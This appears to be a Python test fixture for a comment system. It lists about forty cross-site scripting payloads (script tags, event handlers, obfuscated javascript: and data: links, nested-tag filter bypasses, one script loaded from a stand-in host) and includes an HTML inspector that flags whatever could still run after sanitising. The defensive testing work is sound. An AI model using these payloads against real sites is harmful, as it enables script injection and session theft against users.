"""Hostile texts a member may write (comments, notes): each must render inert.

Shared by the API tests (``test_comments``) and, later, the browser's; ``inert_problems`` says
what in a piece of HTML could run or navigate somewhere unsafe.
"""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE_BODIES: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href="JaVaScRiPt:alert(1)">raw link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
    '<a href="https://example.org" onclick="alert(1)">handler</a>',
    '<a href="https://example.org" onmouseover=alert(1)>handler</a>',
    '<p style="background:url(javascript:alert(1))">style</p>',
    '<div onpointerenter="alert(1)">hover</div>',
    '<body onload="alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; and <b onclick=alert(1)>bold</b>",
    '"><img src=x onerror=alert(1)>',
    "<!--<script>alert(1)</script>--><img src=x onerror=alert(1)>",
    '[a](https://example.org "title" onclick=alert(1))',
    "**bold** <style>body{display:none}</style> `<script>`",
]

SAFE_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"})
ACTIVE_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "svg", "math", "form", "style", "base", "meta", "img"}
)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in URL_ATTRIBUTES and value is not None:
                # The browser ignores ASCII whitespace and control characters in a scheme.
                cleaned = "".join(ch for ch in value if ord(ch) > 0x20).lower()
                if ":" in cleaned.split("/", 1)[0] and not cleaned.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{tag} {name}={value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def inert_problems(html: str) -> list[str]:
    """What could run in ``html``: active tags, event handlers, styles, unsafe link schemes."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    lowered = html.lower()
    if "<script" in lowered:
        inspector.problems.append("<script")
    return inspector.problems
